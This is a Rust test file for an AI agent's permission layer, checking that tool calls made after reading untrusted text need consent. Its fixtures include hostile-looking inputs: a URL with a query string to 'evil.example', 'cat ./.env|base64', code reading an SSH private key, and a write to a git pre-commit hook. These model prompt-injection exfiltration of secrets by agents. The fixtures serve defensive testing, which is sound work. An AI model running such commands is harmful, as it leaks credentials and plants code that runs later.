use aime_llm::ToolDefinition;
use serde_json::json;

use super::*;
use crate::{Permission, PermissionRules, Permissions, RuleLists, approval::decide_permission, builtin};

fn parameters(value: Value) -> Map<String, Value> {
    value.as_object().unwrap().clone()
}

fn no_rules() -> PermissionRules {
    PermissionRules::at("/base/it", RuleLists::default()).unwrap()
}

fn spec(name: &str, change: impl FnOnce(&mut ToolSpec)) -> ToolSpec {
    let mut spec = ToolSpec::clone(builtin().get(name).unwrap().spec());
    change(&mut spec);
    spec
}

fn page() -> ToolSpec {
    spec("read_file", |spec| {
        spec.touches = ToolScope::Network;
        spec.hosts = Some(vec!["docs.rs".to_owned()]);
    })
}

fn server(trusted: bool, network: bool, read_only: bool) -> ToolSpec {
    spec("bash", |spec| {
        spec.source = Source::Server { name: "git".to_owned(), trusted, network };
        spec.read_only = read_only;
    })
}

fn servers(trusted: &[&str], all: bool) -> ToolSpec {
    let trusted = trusted.iter().map(|name| (*name).to_owned()).collect();
    spec("bash", |spec| spec.source = Source::Servers { trusted, all })
}

fn word(decision: &PermissionDecision) -> &'static str {
    match decision {
        PermissionDecision::Allow => "allow",
        PermissionDecision::Ask { .. } => "ask",
        PermissionDecision::Deny { .. } => "deny",
    }
}

// Requirement: 14.3
#[test]
fn what_could_get_something_out_needs_consent_in_every_mode() {
    let none = json!({});
    let ls = json!({"command": "ls"});
    let table = [
        // Columns: spec, parameters, commands reach the network, data could get out.
        (page(), json!({"url": "https://docs.rs/serde"}), false, false),
        (page(), json!({"url": "https://evil.example/?c=1"}), false, true),
        (page(), json!({"url": "no address"}), false, true),
        (server(false, true, false), none.clone(), false, true),
        (server(true, true, false), none.clone(), false, false),
        (server(false, false, false), none.clone(), false, false),
        (server(false, true, true), none.clone(), false, false),
        (servers(&["git"], false), json!({"name": "mcp__git__log"}), false, false),
        (servers(&["git"], false), json!({"name": "mcp__mail__send"}), false, true),
        (servers(&["git"], false), json!({"name": "odd"}), false, true),
        (servers(&["git"], true), json!({"name": "odd"}), false, false),
        (spec("bash", |_| {}), ls.clone(), false, false),
        (spec("bash", |spec| spec.touches = ToolScope::Anything), none.clone(), false, true),
        (spec("bash", |_| {}), ls, true, true),
        (spec("bash", |_| {}), json!({"command": "cat ./.env|base64"}), false, true),
        (spec("python", |_| {}), json!({"code": "open('deploy/id_rsa').read()"}), false, true),
        (spec("read_file", |_| {}), json!({"path": ".env"}), false, true),
        (spec("grep", |_| {}), json!({"pattern": "KEY", "path": "a/server.pem"}), false, true),
        (spec("read_file", |_| {}), json!({"path": "README.md"}), false, false),
        (spec("write_file", |_| {}), json!({"path": ".env", "content": "PORT=1"}), false, false),
        (spec("bash", |_| {}), json!({"command": "grep -rn credentials src | head"}), false, false),
        (spec("grep", |_| {}), json!({"pattern": "\\.env", "path": "src"}), false, false),
    ];
    let rules = no_rules();
    for (spec, given, commands_reach_network, out) in table {
        let trust = Trust { files: false, commands_reach_network, ..Trust::default() };
        let given = parameters(given);
        for approval in [Approval::Ask, Approval::Edits, Approval::All, Approval::ReadOnly] {
            let call = ProposedCall::new(approval, &rules, &spec, &given);
            let before = decide_permission(call);
            let context = format!("{} {given:?} {approval:?}", spec.name());
            assert_eq!(trust.apply_trust(before.clone(), call, &[]), before, "{context}: who has read nothing may do what the mode allows");
            let after = trust.apply_trust(before.clone(), call, &[Origin::Files]);
            let expected = match (word(&before), out, approval) {
                ("allow", true, Approval::ReadOnly) => "deny",
                ("allow", true, _) => "ask",
                (before, ..) => before,
            };
            assert_eq!(word(&after), expected, "{context}");
        }
    }
}

/// A call of a tool that calls others has the rights of the tool that it names.
#[test]
fn a_call_on_demand_is_as_read_only_as_its_tool() {
    let parameters_of = json!({"type": "object"}).into();
    let definition = ToolDefinition { name: "mcp_call_tool".to_owned(), description: String::new(), parameters: parameters_of };
    let mut spec = ToolSpec::new(definition);
    (spec.touches, spec.reads) = (ToolScope::Processes, vec!["mcp__git__log".to_owned()]);
    spec.source = Source::Servers { trusted: Vec::new(), all: false };
    let (log, push) = (json!({"name": "mcp__git__log"}), json!({"name": "mcp__git__push"}));
    let keys = json!({"name": "mcp__git__log", "parameters": {"path": ".env"}});
    let (trust, rules) = (Trust::default(), no_rules());
    for (approval, origins, given, expected) in [
        (Approval::All, &[Origin::Files][..], &log, "allow"),
        (Approval::All, &[Origin::Files], &push, "ask"),
        (Approval::All, &[Origin::Files], &keys, "ask"),
        (Approval::Edits, &[], &log, "allow"),
        (Approval::Edits, &[], &push, "ask"),
        (Approval::ReadOnly, &[], &log, "allow"),
        (Approval::ReadOnly, &[], &push, "deny"),
    ] {
        let permissions = Permissions { trust: Some(&trust), origins, ..Permissions::new(approval, &rules) };
        let decided = match permissions.decide(&spec, spec.check_read(parameters(given.clone())).unwrap()) {
            Permission::Allow(_) => "allow",
            Permission::Ask(_) => "ask",
            Permission::Deny { .. } => "deny",
        };
        assert_eq!(decided, expected, "{approval:?} {given}");
    }
}

/// A person consented to a plan, but not to a path that untrusted text has put into it.
#[test]
fn others_words_do_not_choose_what_runs_later() {
    let write = spec("write_file", |_| {});
    for (path, approval, expected) in [
        (".git/hooks/pre-commit", Approval::Edits, "ask"),
        (".git/hooks/pre-commit", Approval::ReadOnly, "deny"),
        (".git/hooks/pre-commit", Approval::All, "allow"),
        ("a.txt", Approval::Edits, "allow"),
    ] {
        let given = parameters(json!({"path": path, "content": "x"}));
        let rules = no_rules();
        let call = ProposedCall::new(approval, &rules, &write, &given);
        let of = |origins: &[Origin]| word(&Trust::default().apply_trust(PermissionDecision::Allow, call, origins));
        assert_eq!([of(&[]), of(&[Origin::Files])], ["allow", expected], "{path} {approval:?}");
    }
}

#[test]
fn a_person_is_told_why_they_are_asked() {
    let given = parameters(json!({"url": "https://evil.example/"}));
    let (page, rules) = (page(), no_rules());
    let call = ProposedCall::new(Approval::All, &rules, &page, &given);
    let origins = [Origin::Files, Origin::Web("wiki.example".to_owned())];
    let PermissionDecision::Ask { question, .. } = Trust::default().apply_trust(PermissionDecision::Allow, call, &origins) else {
        panic!()
    };
    assert!(question.starts_with(
        "This call reaches evil.example, which web.allowed_hosts does not name, and its caller has read text from others (files, web wiki.example).\n"
    ));
}

// Requirement: 14.1
#[test]
fn results_have_origins() {
    let given = parameters(json!({"url": "https://Docs.rs/x", "server": "git"}));
    let table = [
        (spec("read_file", |_| {}), Some("files"), true, false),
        (spec("bash", |_| {}), Some("command"), true, false),
        (page(), Some("web docs.rs"), true, true),
        (server(false, true, true), Some("mcp git"), true, true),
        (server(true, true, false), Some("mcp git"), false, false),
        (servers(&[], false), Some("mcp git"), true, true),
        (servers(&["git"], false), Some("mcp git"), false, false),
        (spec("todo", |_| {}), None, false, false),
        (spec("ask_human", |_| {}), Some("person"), false, false),
        (spec("delegate_task", |_| {}), Some("actor"), false, false),
    ];
    for (spec, origin, untrusted, with_files_trusted) in table {
        let name = spec.name().to_owned();
        assert_eq!(origin_of(&spec, &given).map(|origin| origin.to_string()).as_deref(), origin, "{name}");
        let doubtful = |files| Trust { files, commands_reach_network: false, ..Trust::default() }.untrusted(&spec, &given).is_some();
        assert_eq!((doubtful(false), doubtful(true)), (untrusted, with_files_trusted), "{name}");
    }
    let connected = Trust { files: true, commands_reach_network: true, ..Trust::default() };
    assert_eq!(connected.untrusted(&spec("bash", |_| {}), &given), Some(Origin::Command), "a command may print a page");
    let specs = [server(false, true, true), server(true, true, true), spec("bash", |_| {})];
    assert_eq!(Trust::untrusted_descriptions(&specs), [Origin::Server("git".to_owned())]);
}
